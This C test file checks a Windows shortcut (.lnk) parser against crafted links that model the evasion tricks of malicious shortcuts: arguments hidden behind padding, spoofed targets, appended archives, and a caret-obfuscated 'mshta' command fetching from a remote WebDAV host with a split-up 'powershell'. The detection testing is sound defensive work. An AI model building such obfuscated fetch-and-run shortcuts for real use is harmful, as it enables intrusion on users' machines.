/* SPDX-License-Identifier: Apache-2.0 */
/* Links are built by hand, field by field; their commands name programs and hosts that do nothing. */
#include "base/buf.h"
#include "base/text.h"
#include "decode/harness.h"

#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>
#include "tests/table.h"

#include "tests/table.h"

static void le(struct buf *b, uint64_t v, unsigned bytes)
{
    for (unsigned i = 0; i < bytes; i++)
        buf_byte(b, (uint8_t)(v >> 8 * i));
}

static void zeros(struct buf *b, size_t n)
{
    while (n--)
        buf_byte(b, 0);
}

static void wide(struct buf *b, const char *s)
{
    for (; *s; s++)
        le(b, (uint8_t)*s, 2);
}

static void header(struct buf *b, uint32_t flags, uint32_t show)
{
    buf_put(b, SLICE_LIT("L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"));
    le(b, flags, 4);
    zeros(b, 0x38 - 24);
    le(b, 40, 4); /* icon */
    le(b, show, 4);
    zeros(b, 12);
}

static void string(struct buf *b, const char *s)
{
    le(b, strlen(s), 2);
    wide(b, s);
}

static void environment(struct buf *b, uint32_t signature, const char *path)
{
    le(b, 0x314, 4);
    le(b, signature, 4);
    buf_text(b, path);
    zeros(b, 260 - strlen(path));
    wide(b, path);
    zeros(b, 520 - 2 * strlen(path));
}

enum { LIST = 1, INFO = 2, NAME = 4, RELATIVE = 8, WORKING = 16, ARGUMENTS = 32, ICON = 64, WIDE = 128 };

static void plain(struct buf *b)
{
    header(b, NAME | RELATIVE | ARGUMENTS | ICON | WIDE, 7);
    string(b, "a note");
    string(b, "..\\..\\Windows\\System32\\cmd.exe");
    string(b, "/c echo inert");
    string(b, "C:\\Docs\\a.pdf");
    le(b, 0, 4);
}

static void item(struct buf *b, slice body)
{
    le(b, body.len + 2, 2);
    buf_put(b, body);
}

static void file_item(struct buf *b, const char *shown, const char *full)
{
    struct buf i = buf_new(1024);
    buf_put(&i, SLICE_LIT("\x32\0\0\0\0\0\0\0\0\0\x20\0"));
    buf_text(&i, shown);
    zeros(&i, 2 - strlen(shown) % 2);
    if (full) {
        le(&i, 46 + 2 * strlen(full) + 4, 2);
        le(&i, 9, 2);
        le(&i, 0xBEEF0004, 4);
        zeros(&i, 38);
        wide(&i, full);
        zeros(&i, 4);
    }
    item(b, buf_slice(&i));
    buf_drop(&i);
}

static void list_of(struct buf *b, const char *shown, const char *full)
{
    struct buf l = buf_new(4096);
    item(&l, SLICE_LIT("\x1f\x50\xe0\x4f\xd0\x20\xea\x3a\x69\x10\xa2\xd8\x08\0\x2b\x30\x30\x9d"));
    item(&l, SLICE_LIT("\x2f" "C:\\\0"));
    file_item(&l, "WINDOWS", "Windows");
    file_item(&l, shown, full);
    le(&l, 0, 2);
    le(b, l.len, 2);
    buf_put(b, buf_slice(&l));
    buf_drop(&l);
}

static void listed(struct buf *b)
{
    header(b, LIST | WIDE, 1);
    list_of(b, "EXAMPL~1.EXE", "Example Program.exe");
    le(b, 0, 4);
}
static void listed_short(struct buf *b)
{
    header(b, LIST | WIDE, 1);
    list_of(b, "a.exe", NULL);
    le(b, 0, 4);
}
static void list_too_long(struct buf *b)
{
    header(b, LIST | WIDE, 1);
    size_t at = b->len;
    list_of(b, "a.exe", NULL);
    b->at[at] = 0xff;
    b->at[at + 1] = 0xff;
}
static void item_too_long(struct buf *b)
{
    header(b, LIST | WIDE, 1);
    size_t at = b->len;
    list_of(b, "a.exe", NULL);
    b->at[at + 2] = 0xff;
    le(b, 0, 4);
}
static void network(struct buf *b)
{
    static const char share[] = "\\\\192.0.2.80\\share";
    header(b, INFO | WIDE, 1);
    size_t net = 20 + sizeof share, all = 0x1C + net + 6;
    le(b, all, 4);
    le(b, 0x1C, 4);
    le(b, 2, 4);
    zeros(b, 8);
    le(b, 0x1C, 4);
    le(b, 0x1C + net, 4);
    le(b, net, 4);
    le(b, 2, 4);
    le(b, 20, 4);
    zeros(b, 8);
    buf_put(b, (slice){ (const uint8_t *)share, sizeof share });
    buf_put(b, SLICE_LIT("a.exe\0"));
    le(b, 0, 4);
}
static void info_size_lies(struct buf *b)
{
    header(b, INFO | ARGUMENTS | WIDE, 1);
    le(b, 2, 4);
    string(b, "/c after a wrong size");
    le(b, 0, 4);
}
static void spoofed(struct buf *b)
{
    header(b, LIST | WIDE | 0x200, 1);
    list_of(b, "readme.txt", NULL);
    environment(b, 0xA0000001, "%windir%\\System32\\example.exe");
    le(b, 0, 4);
}
static void same_target(struct buf *b)
{
    header(b, LIST | WIDE | 0x200, 1);
    list_of(b, "EXAMPLE.EXE", NULL);
    environment(b, 0xA0000001, "%windir%\\example.exe");
    le(b, 0, 4);
}
static void ansi(struct buf *b)
{
    header(b, ARGUMENTS, 1);
    le(b, 5, 2);
    buf_text(b, "/c hi");
    le(b, 0, 4);
}
static void padded(struct buf *b)
{
    header(b, RELATIVE | ARGUMENTS | WIDE, 7);
    string(b, "cmd.exe");
    le(b, 300 + 14, 2);
    for (size_t i = 0; i < 300; i++)
        le(b, i % 3 ? ' ' : '\n', 2);
    wide(b, "/c echo hidden");
    le(b, 0, 4);
}
static void wide_blanks(struct buf *b)
{
    header(b, RELATIVE | ARGUMENTS | WIDE, 7);
    string(b, "cmd.exe");
    le(b, 40 + 2, 2);
    for (size_t i = 0; i < 40; i++)
        le(b, 0x3000, 2);
    wide(b, "/c");
    le(b, 0, 4);
}
static void nul_inside(struct buf *b)
{
    header(b, RELATIVE | ARGUMENTS | WIDE, 7);
    string(b, "cmd.exe");
    le(b, 6, 2);
    wide(b, "/c");
    le(b, 0, 2);
    wide(b, "abc");
    le(b, 0, 4);
}
static void carets(struct buf *b)
{
    header(b, RELATIVE | ARGUMENTS | WIDE, 7);
    string(b, "cmd.exe");
    string(b, "/c m^s^h\"t\"a \\\\192.0.2.80@80\\a.txt & ('po'+ 'wershell')");
    le(b, 0, 4);
}
static void icon_block(struct buf *b)
{
    header(b, RELATIVE | WIDE, 7);
    string(b, "cmd.exe");
    environment(b, 0xA0000007, "%ProgramFiles%\\AcroRd32.exe");
    le(b, 0, 4);
}
static void made_by(struct buf *b)
{
    header(b, RELATIVE | WIDE, 7);
    string(b, "cmd.exe");
    le(b, 0x60, 4);
    le(b, 0xA0000003, 4);
    le(b, 0x58, 4);
    le(b, 0, 4);
    buf_text(b, "example-pc");
    zeros(b, 6 + 16);
    buf_put(b, SLICE_LIT("\0\0\0\0\0\0\0\x11\0\0\x02\0\0\0\0\x01"));
    zeros(b, 32);
    le(b, 0, 4);
}
static void long_property(struct buf *b)
{
    header(b, RELATIVE | WIDE, 7);
    string(b, "cmd.exe");
    static const char text[] = "/c from the store";
    size_t value = 17 + 2 * sizeof text, store = 24 + value + 4;
    le(b, 8 + store + 4, 4);
    le(b, 0xA0000009, 4);
    le(b, store, 4);
    buf_text(b, "1SPS");
    buf_put(b, SLICE_LIT("\x67\x22\x6f\x43\xe2\x14\xeb\x4f\xb3\x0a\x14\x6c\x53\xb5\xb6\x74"));
    le(b, value, 4);
    le(b, 100, 4);
    le(b, 0, 1);
    le(b, 0x1F, 4);
    le(b, sizeof text, 4);
    wide(b, text);
    le(b, 0, 2);
    le(b, 0, 8);
    le(b, 0, 4);
}
static void with_script(struct buf *b)
{
    plain(b);
    buf_text(b, "rem an inert line behind the end\r\n");
}
static void with_zeros(struct buf *b)
{
    plain(b);
    zeros(b, 70000);
}
static void with_zip(struct buf *b)
{
    plain(b);
    buf_text(b, "words before it ");
    buf_put(b, SLICE_LIT("PK\5\6PK\3\4\x0a\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\1\0\0\0a"));
}
static void with_zip_ending_in_zeros(struct buf *b)
{
    plain(b);
    buf_text(b, "words");
    buf_put(b, SLICE_LIT("PK\5\6"));
    zeros(b, 18); /* an archive without members: 22 bytes */
}
static void no_terminal(struct buf *b)
{
    plain(b);
    b->len -= 4;
    buf_text(b, "rem text where a block should be");
}
static void unknown_block(struct buf *b)
{
    header(b, RELATIVE | WIDE, 7);
    string(b, "..\\a.pdf");
    le(b, 8 + 22, 4);
    le(b, 0x12345678, 4);
    buf_put(b, SLICE_LIT("PK\5\6"));
    zeros(b, 18);
    environment(b, 0xA0000001, "%windir%\\example.exe");
    le(b, 0, 4);
}
static void block_cut(struct buf *b)
{
    header(b, RELATIVE | WIDE, 7);
    string(b, "cmd.exe");
    environment(b, 0xA0000001, "%windir%\\example.exe");
    b->len -= 400;
}
static void string_cut(struct buf *b)
{
    header(b, RELATIVE | ARGUMENTS | WIDE, 7);
    string(b, "cmd.exe");
    le(b, 0xFFFF, 2);
    wide(b, "/c what there is of it");
}
static void header_only(struct buf *b) { header(b, 0xFF, 7); }
static void head_cut(struct buf *b)
{
    header(b, 0xFF, 7);
    b->len = 30;
}

static const struct {
    const char *what;
    void (*make)(struct buf *b);
    enum fact_id id; /* must be there with this text (or number, where text is NULL) */
    const char *text;
    int64_t number;
    enum walk_end end;
} cases[] = {
    { "arguments", plain, FACT_LNK_ARGUMENTS, "/c echo inert", 0, WALK_WHOLE },
    { "relative target", plain, FACT_LNK_TARGET_NAME, "cmd.exe", 0, WALK_WHOLE },
    { "minimized", plain, FACT_LNK_SHOW_COMMAND, "minimized", 0, WALK_WHOLE },
    { "icon number", plain, FACT_LNK_ICON_INDEX, NULL, 40, WALK_WHOLE },
    { "icon of a document", plain, FACT_LNK_ICON_KIND, "document", 0, WALK_WHOLE },
    { "program", plain, FACT_LNK_PROGRAM, "cmd", 0, WALK_WHOLE },
    { "comment", plain, FACT_LNK_DESCRIPTION, "a note", 0, WALK_WHOLE },
    { "item list", listed, FACT_LNK_TARGET, "C:\\Windows\\Example Program.exe", 0, WALK_WHOLE },
    { "item list without long names", listed_short, FACT_LNK_TARGET, "C:\\Windows\\a.exe", 0, WALK_WHOLE },
    { "item list too long", list_too_long, FACT_LNK_TARGET, "C:\\Windows\\a.exe", 0, WALK_BROKEN },
    { "item too long", item_too_long, FACT_LNK_MALFORMED, "an item has a wrong size", 0, WALK_BROKEN },
    { "share", network, FACT_LNK_TARGET, "\\\\192.0.2.80\\share\\a.exe", 0, WALK_WHOLE },
    { "share is remote", network, FACT_REMOTE_KIND, "address", 0, WALK_WHOLE },
    { "LinkInfo size lies", info_size_lies, FACT_LNK_ARGUMENTS, "/c after a wrong size", 0, WALK_BROKEN },
    { "two targets", spoofed, FACT_LNK_TARGET_CONFLICT, "readme.txt", 0, WALK_WHOLE },
    { "8-bit strings", ansi, FACT_LNK_ARGUMENTS, "/c hi", 0, WALK_WHOLE },
    { "padding", padded, FACT_LNK_ARGUMENTS_PADDING, NULL, 300, WALK_WHOLE },
    { "ideographic blanks", wide_blanks, FACT_LNK_ARGUMENTS_PADDING, NULL, 40, WALK_WHOLE },
    { "NUL inside", nul_inside, FACT_LNK_ARGUMENTS_LENGTH, NULL, 6, WALK_WHOLE },
    { "obfuscated program", carets, FACT_LNK_PROGRAM, "mshta", 0, WALK_WHOLE },
    { "program in pieces", carets, FACT_LNK_PROGRAM, "powershell", 0, WALK_WHOLE },
    { "path in the arguments", carets, FACT_REMOTE_KIND, "webdav", 0, WALK_WHOLE },
    { "icon by environment", icon_block, FACT_LNK_ICON_KIND, "document", 0, WALK_WHOLE },
    { "machine", made_by, FACT_LNK_MACHINE_ID, "example-pc", 0, WALK_WHOLE },
    { "network card", made_by, FACT_LNK_MAC, "02:00:00:00:00:01", 0, WALK_WHOLE },
    { "arguments in the property store", long_property, FACT_LNK_ARGUMENTS, "/c from the store", 0, WALK_WHOLE },
    { "script behind the end", with_script, FACT_LNK_APPENDED, NULL, 34, WALK_WHOLE },
    { "archive behind the end", with_zip, FACT_LNK_APPENDED, NULL, 51, WALK_WHOLE },
    { "no terminal block", no_terminal, FACT_LNK_APPENDED, NULL, 32, WALK_BROKEN },
    { "unknown block in front of the target", unknown_block, FACT_LNK_TARGET, "%windir%\\example.exe", 0, WALK_BROKEN },
    { "unknown block is said", unknown_block, FACT_LNK_MALFORMED, "an unknown block", 0, WALK_BROKEN },
    { "block cut off", block_cut, FACT_LNK_TARGET, "%windir%\\example.exe", 0, WALK_SHORT },
    { "string cut off", string_cut, FACT_LNK_ARGUMENTS, "/c what there is of it", 0, WALK_SHORT },
    { "header only", header_only, FACT_LNK_SHOW_COMMAND, "minimized", 0, WALK_SHORT },
    { "header cut off", head_cut, FACT_FILE_TYPE, "lnk", 0, WALK_SHORT },
};

static void links_are_read(void **state)
{
    (void)state;
    struct table table = { 0 };
    TABLE_EACH (&table, row, cases) {
        struct buf b = buf_new(1 << 20);
        row->make(&b);
        struct tally *t = tally_format("lnk", buf_slice(&b));
        tally_check(t);
        const struct fact *f = tally_fact(t, row->id);
        bool good = row->text ? tally_has(t, row->id, row->text) : f && f->number == row->number;
        if (!good || t->r.parts[0].end != row->end)
            table_wrong(&table, row->what, "%.*s %d, end %s", f ? (int)f->text.len : 0, f && f->text.len ? (const char *)f->text.at : "",
                     f ? (int)f->number : -1, walk_end_name(t->r.parts[0].end));
        tally_drop(&t);
        tally_memory_ends(&(struct tally_options){ .format = "lnk" }, buf_slice(&b), 12);
        buf_drop(&b);
    }
}

static void what_is_not_there(void **state)
{
    static const struct {
        const char *what;
        void (*make)(struct buf *b);
        enum fact_id id;
    } none[] = {
        { "nothing behind the end", plain, FACT_LNK_APPENDED },
        { "zeros behind the end", with_zeros, FACT_LNK_APPENDED },
        { "arguments without blanks", plain, FACT_LNK_ARGUMENTS_PADDING },
        { "one target said twice", same_target, FACT_LNK_TARGET_CONFLICT },
        { "a target on a disk", listed, FACT_REMOTE_KIND },
        { "nothing damaged", plain, FACT_LNK_MALFORMED },
    };
    (void)state;
    struct table table = { 0 };
    TABLE_EACH (&table, row, none) {
        struct buf b = buf_new(1 << 20);
        row->make(&b);
        struct tally *t = tally_format("lnk", buf_slice(&b));
        if (tally_fact(t, row->id))
            table_wrong(&table, row->what, "%s is there", fact_row(row->id)->name);
        tally_drop(&t);
        buf_drop(&b);
    }
}

static void command_line_is_plain(void **state)
{
    struct buf b = buf_new(1 << 16);
    (void)state;
    padded(&b);
    struct tally *t = tally_format("lnk", buf_slice(&b));
    assert_true(slice_is(tally_view(t, FACT_LNK_COMMAND_LINE, 0), "cmd.exe /c echo hidden"));
    tally_drop(&t);
    buf_clear(&b);
    carets(&b);
    t = tally_format("lnk", buf_slice(&b));
    slice view = tally_view(t, FACT_LNK_COMMAND_LINE, 0);
    assert_true(slice_find(view, SLICE_LIT("\ncmd.exe /c mshta \\\\192.0.2.80@80\\a.txt & ('powershell')"), 0) != SIZE_MAX);
    tally_drop(&t);
    buf_drop(&b);
}

/* Names that are ordinary words are programs only where a command begins. */
static void programs_are_named(void **state)
{
    static const struct {
        const char *name, *arguments, *program;
        bool said;
    } rows[] = {
        { "behind /c", "/c node -e 1", "node", true },
        { "behind /c, in quotes", "/c \"tar -xf a\"", "tar", true },
        { "behind another command", "/c echo a&scp a b:", "scp", true },
        { "behind start and a title", "/c start \"\" /min python a.py", "python", true },
        { "with its extension", "/c cd a && \"C:\\x y\\mmc.exe\" a", "mmc", true },
        { "folder of that name", "/c cd /d C:\\node", "node", false },
        { "word of a text", "/c echo tar is sticky", "tar", false },
        { "script of that name", "/c python.py", "python", false },
        { "host of that name", "/c ping https://node", "node", false },
        { "no ordinary word", "/c echo odbcconf", "odbcconf", true },
    };
    struct buf b = buf_new(1 << 16);
    struct table t = { 0 };
    (void)state;
    TABLE_EACH (&t, row, rows) {
        buf_clear(&b);
        header(&b, RELATIVE | ARGUMENTS | WIDE, 7);
        string(&b, "cmd.exe");
        string(&b, row->arguments);
        le(&b, 0, 4);
        struct tally *r = tally_format("lnk", buf_slice(&b));
        table_true(&t, row->name, tally_has(r, FACT_LNK_PROGRAM, row->program) == row->said);
        tally_drop(&r);
    }
    buf_drop(&b);
}

static void files_behind_the_end_are_parts(void **state)
{
    struct buf b = buf_new(1 << 16);
    (void)state;
    with_script(&b);
    struct tally *t = tally_run(&(struct tally_options){ 0 }, buf_slice(&b));
    assert_int_equal(t->r.n_parts, 2);
    assert_true(slice_is(t->r.parts[1].type, "text"));
    tally_drop(&t);
    buf_clear(&b);
    with_zip(&b);
    t = tally_run(&(struct tally_options){ 0 }, buf_slice(&b));
    assert_true(tally_part_typed(t, "zip") != NO_ID);
    tally_drop(&t);
    buf_clear(&b);
    with_zip_ending_in_zeros(&b);
    t = tally_run(&(struct tally_options){ 0 }, buf_slice(&b));
    assert_int_equal(t->r.n_parts, 2);
    assert_int_equal(t->r.parts[1].size, 5 + 22);
    tally_drop(&t);
    buf_clear(&b);
    unknown_block(&b);
    t = tally_run(&(struct tally_options){ 0 }, buf_slice(&b));
    assert_true(tally_part_typed(t, "zip") != NO_ID);
    tally_drop(&t);
    buf_drop(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(links_are_read),
        cmocka_unit_test(what_is_not_there),
        cmocka_unit_test(command_line_is_plain),
        cmocka_unit_test(programs_are_named),
        cmocka_unit_test(files_behind_the_end_are_parts),
    };
    cmocka_set_message_output(CM_OUTPUT_TAP);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
